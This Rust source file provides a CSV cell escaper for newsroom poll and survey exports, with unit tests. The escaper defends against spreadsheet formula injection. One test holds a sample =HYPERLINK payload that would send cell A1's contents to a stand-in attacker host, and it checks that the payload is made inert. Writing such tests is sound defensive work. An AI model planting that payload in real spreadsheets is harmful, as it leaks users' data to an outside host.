//! CSV for the exports newsrooms open in spreadsheets: poll tallies and
//! survey responses alike.

/// A CSV cell: RFC 4180 quoting, and text a spreadsheet would run as a
/// formula (`=`, `+`, `-`, `@`, tab or CR first) made inert with a leading
/// `'` inside the quotes. Reader-written text and editor labels both pass
/// through here, headers included.
pub fn csv_cell(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula || text.contains([',', '"', '\n', '\r']) {
        let mut out = String::with_capacity(text.len() + 3);
        out.push('"');
        if formula {
            out.push('\'');
        }
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
        out
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_spreadsheets_would_run_are_inert() {
        assert_eq!(csv_cell("plain"), "plain");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
        );
        for bad in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            let cell = csv_cell(bad);
            assert!(cell.starts_with("\"'"), "{bad:?} -> {cell:?}");
        }
        assert_eq!(csv_cell("line\nbreak"), "\"line\nbreak\"");
    }
}
